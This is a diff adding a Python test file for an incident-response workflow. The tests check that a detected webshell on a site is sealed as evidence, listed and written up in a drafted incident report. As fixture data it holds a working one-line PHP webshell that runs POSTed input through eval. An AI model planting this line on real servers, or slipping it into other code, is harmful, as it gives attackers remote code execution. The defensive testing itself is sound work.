@@ -1,0 +1,95 @@
+"""An intrusion that an analysis finds: its files kept sealed once, its report drafted; a clean site has neither."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Callable
+from typing import Any
+
+import pytest
+
+from flows.jobs import cases, reports, traces
+from flows.jobs.websites import check
+from flows.office import Office
+from playbooks.findings import Copy, Finding, Severity, TargetResult
+from sop.documents import from_incident
+from sop.documents.from_incident import TRACES
+from tests.flows.machines import WebHost, web_host
+
+__all__ = ["web_host"]
+
+SITE = "dinkes-web"
+PATH = "shared/wp-content/uploads/x.php"
+SHELL = b"<?php @eval($_POST['c']);"
+FINDING = Finding("files.webshell", Severity.CRITICAL, PATH, "masukan dijalankan sebagai kode", "Karantina.")
+OLD = -(10**15)
+"""A time that no calendar has: whoever wrote the file chose it."""
+Submit = Callable[..., str]
+
+
+@pytest.fixture
+def case(office: Office, submit: Submit, web_host: WebHost) -> str:
+    assert web_host.done == []
+    case = submit("--website", SITE, sop="website")
+    for official in ("pranata-1", "kadis", "sekretaris", "kabid-aptika"):
+        office.register.act(case, official, "YA")
+    return case
+
+
+def intruded(monkeypatch: pytest.MonkeyPatch) -> None:
+    copies = (
+        Copy(PATH, SHELL, "www-data", "640", OLD, 1_700_000_000),
+        Copy("shared/lain.php", SHELL, "www-data", "640", 1, 1),
+    )
+
+    def found(*_: Any) -> TargetResult:
+        return TargetResult(SITE, 0.1, (FINDING,), copies=copies, checked=("files",))
+
+    monkeypatch.setattr(check, "check", found)
+
+
+def kinds(office: Office, case: str) -> list[str]:
+    return [each.kind for each in office.register.evidence(case_id=case)]
+
+
+def test_a_hit_keeps_the_files_sealed_lists_them_and_drafts_the_report(
+    office: Office, case: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    intruded(monkeypatch)
+    assert cases.carry(office, case).state == "waiting"
+    (copy,) = office.register.evidence(case_id=case, kind=traces.COPY)
+    assert (copy.name, copy.sealed, office.register.read(copy.id)) == (PATH, True, SHELL)
+    (listed,) = office.register.evidence(case_id=case, kind=TRACES)
+    lines = json.loads(office.register.read(listed.id))["files"]
+    assert [(each["path"], each["owner"], each["sha256"]) for each in lines] == [
+        (PATH, "www-data", copy.sha256),
+        ("shared/lain.php", "www-data", copy.sha256),
+    ]
+    assert reports.INCIDENT in kinds(office, case)
+    assert any(each.title.startswith("Laporan insiden") for each in reports.write_out(office, case))
+
+
+def test_carrying_the_case_again_keeps_nothing_twice(
+    office: Office, case: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    intruded(monkeypatch)
+    cases.carry(office, case)
+    before = kinds(office, case)
+    cases.carry(office, case)
+    assert kinds(office, case) == before
+
+
+def test_the_report_says_what_the_evidence_says(office: Office, case: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    intruded(monkeypatch)
+    cases.carry(office, case)
+    told = from_incident.incident(office.register, office.register.case(case), {})
+    assert told is not None
+    assert told.kinds == ("pintu belakang (webshell) atau jadwal jahat",)
+    assert [(each.path, each.modified.year) for each in told.traces] == [(PATH, 1970), ("shared/lain.php", 1970)]
+    assert told.cleaning == ()
+
+
+def test_a_clean_site_has_no_copies_and_no_incident(office: Office, case: str) -> None:
+    cases.carry(office, case)
+    assert not {traces.COPY, TRACES, reports.INCIDENT} & {*kinds(office, case)}
+    assert reports.report_incident(office, case) == []
